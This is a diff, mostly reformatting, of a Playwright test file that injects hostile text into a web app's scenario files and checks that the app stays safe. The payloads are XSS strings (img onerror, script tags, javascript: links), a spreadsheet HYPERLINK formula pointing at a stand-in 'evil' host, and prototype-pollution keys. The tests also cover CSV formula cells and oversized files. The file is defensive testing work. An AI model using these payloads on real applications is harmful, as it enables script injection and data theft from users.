@@ -18,7 +18,10 @@ import type { Browser, Download, Page } from 'playwright-core';
 import { checkScenarioText } from '../../src/store/scenarios';
 import { baseUrl, launch, openPage, shot } from './browser';
 
-const defaultText = readFileSync(fileURLToPath(new URL('../../scenarios/default.json', import.meta.url)), 'utf8');
+const defaultText = readFileSync(
+  fileURLToPath(new URL('../../scenarios/default.json', import.meta.url)),
+  'utf8',
+);
 
 const IMG = '<img src=x onerror="window.__pwned=1">';
 const SCRIPT = '<script>window.__pwned=1</script>';
@@ -30,25 +33,52 @@ const MARKDOWN = '[x](javascript:window.__pwned=1) | # =HYPERLINK("http://evil.e
 /** Every payload at once: what each text field of the hostile scenario ends with. */
 const PAYLOAD = [IMG, SCRIPT, LINK, TEXTAREA, RTL, LONG, MARKDOWN].join(' ');
 
-/** Keys whose string values are free text a person reads (everything else is an id, a reference or an enum). */
-const TEXT_KEYS = new Set(['title', 'summary', 'setting', 'name', 'description', 'mandate', 'reason', 'text', 'sender', 'expectedResponse', 'objectiveTested']);
+/** Keys whose string values are free text a person reads (everything else is an id, a reference or
+ * an enum). */
+const TEXT_KEYS = new Set([
+  'title',
+  'summary',
+  'setting',
+  'name',
+  'description',
+  'mandate',
+  'reason',
+  'text',
+  'sender',
+  'expectedResponse',
+  'objectiveTested',
+]);
 const TEXT_LISTS = new Set(['learningObjectives', 'sources', 'debriefQuestions']);
 
 type Json = null | boolean | number | string | Json[] | { [k: string]: Json };
 
 /** A text given by language code: {"en": "…", "es": "…", "fr": "…"}. */
 function isLocalText(v: Json): v is { [lang: string]: string } {
-  return v !== null && typeof v === 'object' && !Array.isArray(v) && Object.entries(v).every(([k, x]) => /^[a-z]{2}(-[A-Z]{2})?$/.test(k) && typeof x === 'string');
+  return (
+    v !== null &&
+    typeof v === 'object' &&
+    !Array.isArray(v) &&
+    Object.entries(v).every(([k, x]) => /^[a-z]{2}(-[A-Z]{2})?$/.test(k) && typeof x === 'string')
+  );
 }
 
-/** The default scenario with the payload appended to every text field (in every language); returns how many it changed. */
+/** The default scenario with the payload appended to every text field (in every language); returns
+ * how many it changed. */
 function poison(value: Json, counter: { n: number }, key = ''): Json {
   if (typeof value === 'string') {
     counter.n++;
     return `${value} ${PAYLOAD}`;
   }
-  if (isLocalText(value)) return Object.fromEntries(Object.entries(value).map(([lang, text]) => [lang, poison(text, counter)]));
-  if (Array.isArray(value)) return value.map((v) => (TEXT_LISTS.has(key) && (typeof v === 'string' || isLocalText(v)) ? poison(v, counter) : poison2(v, counter)));
+  if (isLocalText(value))
+    return Object.fromEntries(
+      Object.entries(value).map(([lang, text]) => [lang, poison(text, counter)]),
+    );
+  if (Array.isArray(value))
+    return value.map((v) =>
+      TEXT_LISTS.has(key) && (typeof v === 'string' || isLocalText(v))
+        ? poison(v, counter)
+        : poison2(v, counter),
+    );
   return poison2(value, counter);
 }
 
@@ -58,11 +88,16 @@ function poison2(value: Json, counter: { n: number }): Json {
   const out: { [k: string]: Json } = {};
   for (const [k, v] of Object.entries(value)) {
     // An asset's "type" is free text ("infantry company"); an effect's or constraint's is not.
-    const isText = (TEXT_KEYS.has(k) || (k === 'type' && 'readiness' in value)) && (typeof v === 'string' || isLocalText(v));
+    const isText =
+      (TEXT_KEYS.has(k) || (k === 'type' && 'readiness' in value)) &&
+      (typeof v === 'string' || isLocalText(v));
     if (isText) out[k] = poison(v, counter, k);
     else if (TEXT_LISTS.has(k)) out[k] = poison(v, counter, k);
     else if (k === 'short' && typeof v === 'string') out[k] = `<b>${v}`.slice(0, 8);
-    else if (k === 'short' && isLocalText(v)) out[k] = Object.fromEntries(Object.entries(v).map(([lang, x]) => [lang, `<b>${x}`.slice(0, 8)]));
+    else if (k === 'short' && isLocalText(v))
+      out[k] = Object.fromEntries(
+        Object.entries(v).map(([lang, x]) => [lang, `<b>${x}`.slice(0, 8)]),
+      );
     else out[k] = poison2(v, counter);
   }
   return out;
@@ -79,10 +114,15 @@ function hostileScenario(): { text: string; fields: number; sample: string } {
   const value = poison(JSON.parse(defaultText) as Json, counter) as { [k: string]: Json };
   value.id = 'hostile-velmora';
   let text = JSON.stringify(value, null, 2);
-  for (const [from, to] of HOSTILE_IDS) text = text.split(JSON.stringify(from)).join(JSON.stringify(to));
+  for (const [from, to] of HOSTILE_IDS)
+    text = text.split(JSON.stringify(from)).join(JSON.stringify(to));
   // A role's kind happens to equal the civilian role's id: keep the kind.
   text = text.split(`"kind": ${JSON.stringify(HOSTILE_IDS[1]![1])}`).join('"kind": "civilian"');
-  return { text, fields: counter.n, sample: (JSON.parse(text) as { title: { en: string } }).title.en };
+  return {
+    text,
+    fields: counter.n,
+    sample: (JSON.parse(text) as { title: { en: string } }).title.en,
+  };
 }
 
 function file(name: string, text: string): { name: string; mimeType: string; buffer: Buffer } {
@@ -98,22 +138,37 @@ async function injected(page: Page): Promise<string[]> {
     for (const el of Array.from(document.querySelectorAll('*'))) {
       for (const a of Array.from(el.attributes)) {
         if (/^on/i.test(a.name)) bad.push(`<${el.tagName.toLowerCase()} ${a.name}>`);
-        if (/^\s*javascript:/i.test(a.value) && /^(href|src|action|formaction|xlink:href)$/i.test(a.name)) bad.push(`<${el.tagName.toLowerCase()} ${a.name}="${a.value}">`);
+        if (
+          /^\s*javascript:/i.test(a.value) &&
+          /^(href|src|action|formaction|xlink:href)$/i.test(a.name)
+        )
+          bad.push(`<${el.tagName.toLowerCase()} ${a.name}="${a.value}">`);
       }
     }
-    for (const el of Array.from(document.querySelectorAll('img[src="x"], svg[onload], iframe, object, embed'))) bad.push(el.outerHTML.slice(0, 80));
-    for (const s of Array.from(document.scripts)) if ((s.textContent ?? '').includes('__pwned')) bad.push('a script mentioning __pwned');
-    if (Object.prototype.hasOwnProperty.call(Object.prototype, 'polluted') || ({} as { polluted?: unknown }).polluted !== undefined) bad.push('Object.prototype.polluted');
+    for (const el of Array.from(
+      document.querySelectorAll('img[src="x"], svg[onload], iframe, object, embed'),
+    ))
+      bad.push(el.outerHTML.slice(0, 80));
+    for (const s of Array.from(document.scripts))
+      if ((s.textContent ?? '').includes('__pwned')) bad.push('a script mentioning __pwned');
+    if (
+      Object.prototype.hasOwnProperty.call(Object.prototype, 'polluted') ||
+      ({} as { polluted?: unknown }).polluted !== undefined
+    )
+      bad.push('Object.prototype.polluted');
     return bad;
   });
 }
 
-/** Sideways overflow per screen, reported (not asserted): very long words are part of the payload. */
+/** Sideways overflow per screen, reported (not asserted): very long words are part of the payload.
+ * */
 const overflow: Record<string, number> = {};
 
 async function expectInert(page: Page, where: string): Promise<void> {
   expect(await injected(page), `on ${where}`).toEqual([]);
-  overflow[where] = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
+  overflow[where] = await page.evaluate(
+    () => document.documentElement.scrollWidth - window.innerWidth,
+  );
 }
 
 /** The payload is on screen as the characters it is made of. */
@@ -146,7 +201,9 @@ describe('hostile scenario text', () => {
       div.innerHTML = html;
       document.body.append(div);
     }, PAYLOAD);
-    await expect.poll(() => injected(page)).toEqual(expect.arrayContaining(['window.__pwned is set']));
+    await expect
+      .poll(() => injected(page))
+      .toEqual(expect.arrayContaining(['window.__pwned is set']));
     expect((await injected(page)).length).toBeGreaterThan(2);
   });
 
@@ -169,7 +226,9 @@ describe('hostile scenario text', () => {
 
     // The hostile-id civilian role is played by a policy, so its text reaches the log by itself.
     const civ = HOSTILE_IDS[1]![1];
-    await page.locator(`[data-testid="seat-${civ.replace(/"/g, '\\"')}"]`).selectOption('cooperative');
+    await page
+      .locator(`[data-testid="seat-${civ.replace(/"/g, '\\"')}"]`)
+      .selectOption('cooperative');
     await page.getByTestId('seed').fill('hostile');
     await page.getByTestId('start-game').click();
     await page.getByTestId('begin-planning').waitFor();
@@ -205,14 +264,17 @@ describe('hostile scenario text', () => {
         }
       }
       const commit = page.getByTestId('commit');
-      await (await commit.isVisible() ? commit : page.getByTestId('finish-round')).click();
-      await page.waitForFunction(() => document.querySelector('[data-testid=report], [data-testid=handover]') !== null);
+      await ((await commit.isVisible()) ? commit : page.getByTestId('finish-round')).click();
+      await page.waitForFunction(
+        () => document.querySelector('[data-testid=report], [data-testid=handover]') !== null,
+      );
       expect(screens).toBeLessThan(10);
     }
     await expectInert(page, 'the report');
     await expectLiteral(page, 'the report');
     // Open every "Why?" of the report: modifiers and effects name districts and roles.
-    for (const d of await page.locator('[data-testid=report] details').all()) await d.evaluate((el) => ((el as HTMLDetailsElement).open = true));
+    for (const d of await page.locator('[data-testid=report] details').all())
+      await d.evaluate((el) => ((el as HTMLDetailsElement).open = true));
     await expectInert(page, 'the report with every explanation open');
     await shot(page, 'hostile-report');
 
@@ -283,10 +345,13 @@ describe('hostile scenario text', () => {
     }
     if (exported.csv !== undefined) {
       // No cell a spreadsheet would run as a formula.
-      for (const line of exported.csv.split('\n')) for (const cell of line.split(',')) expect(cell, line).not.toMatch(/^"?[=+@]/);
+      for (const line of exported.csv.split('\n'))
+        for (const cell of line.split(',')) expect(cell, line).not.toMatch(/^"?[=+@]/);
     }
     if (exported.json !== undefined) expect(() => JSON.parse(exported.json!)).not.toThrow();
-    console.log(`hostile e2e: exports found in the debrief: ${Object.keys(exported).join(', ') || 'none yet'}`);
+    console.log(
+      `hostile e2e: exports found in the debrief: ${Object.keys(exported).join(', ') || 'none yet'}`,
+    );
     console.log(`hostile e2e: sideways overflow in px (long words): ${JSON.stringify(overflow)}`);
     expect(errors).toEqual([]);
   });
@@ -299,14 +364,26 @@ describe('prototype keys and ids', () => {
     // Written as text: an object literal with a __proto__ key would not survive JSON.stringify.
     const text = defaultText
       .replace('"schemaVersion": 1,', '"__proto__": { "polluted": "yes" }, "schemaVersion": 1,')
-      .replace('"population":', '"constructor": { "prototype": { "polluted": "yes" } }, "population":')
-      .replace('"actionOverrides": {', '"actionOverrides": { "__proto__": { "cost": 0, "polluted": "yes" },');
+      .replace(
+        '"population":',
+        '"constructor": { "prototype": { "polluted": "yes" } }, "population":',
+      )
+      .replace(
+        '"actionOverrides": {',
+        '"actionOverrides": { "__proto__": { "cost": 0, "polluted": "yes" },',
+      );
     expect(text).not.toBe(defaultText);
     await page.getByTestId('scenario-file').setInputFiles(file('proto.json', text));
     const panel = page.getByTestId('scenario-problems');
     await panel.waitFor();
     const paths = await panel.locator('.problem .path').allInnerTexts();
-    expect(paths).toEqual(expect.arrayContaining(['$.__proto__', '$.districts[0].constructor', '$.actionOverrides.__proto__']));
+    expect(paths).toEqual(
+      expect.arrayContaining([
+        '$.__proto__',
+        '$.districts[0].constructor',
+        '$.actionOverrides.__proto__',
+      ]),
+    );
     expect(await panel.innerText()).toMatch(/is not allowed in a scenario file/);
     await expectInert(page, 'the problems of a scenario with prototype keys');
     expect(errors).toEqual([]);
@@ -343,7 +420,13 @@ describe('prototype keys and ids', () => {
     const problem = page.getByTestId('save-problem');
     const cases: [string, string][] = [
       [good.replace('"format":', '"__proto__": { "polluted": "yes" }, "format":'), '$.__proto__'],
-      [good.replace(/"commands": \[\]/, '"commands": [{ "type": "pause", "constructor": { "prototype": { "polluted": "yes" } } }]'), '$.commands[0].constructor'],
+      [
+        good.replace(
+          /"commands": \[\]/,
+          '"commands": [{ "type": "pause", "constructor": { "prototype": { "polluted": "yes" } } }]',
+        ),
+        '$.commands[0].constructor',
+      ],
       [
         good.includes('"app": {')
           ? good.replace('"app": {', '"app": { "__proto__": { "polluted": "yes" },')
@@ -382,13 +465,17 @@ describe('files past sane limits', () => {
 
     const deep = `{"id": "deep", "districts": ${'['.repeat(100)}${']'.repeat(100)}}`;
     await page.getByTestId('scenario-file').setInputFiles(file('deep.json', deep));
-    await expect.poll(() => panel.innerText()).toMatch(/deep\.json cannot be used[\s\S]*nests deeper than 64 levels/);
+    await expect
+      .poll(() => panel.innerText())
+      .toMatch(/deep\.json cannot be used[\s\S]*nests deeper than 64 levels/);
     expect(await panel.locator('.problem').count()).toBe(1);
 
     value.summary = 'a summary';
     value.sources = Array.from({ length: 10_001 }, (_, i) => `source ${i}`);
     await page.getByTestId('scenario-file').setInputFiles(file('long.json', JSON.stringify(value)));
-    await expect.poll(() => panel.innerText()).toMatch(/long\.json cannot be used[\s\S]*more than 10000 items/);
+    await expect
+      .poll(() => panel.innerText())
+      .toMatch(/long\.json cannot be used[\s\S]*more than 10000 items/);
 
     // A save that nests too deep is refused the same way.
     const deepSave = `{"format": "mandate-save", "version": 1, "commands": ${'['.repeat(100)}${']'.repeat(100)}}`;
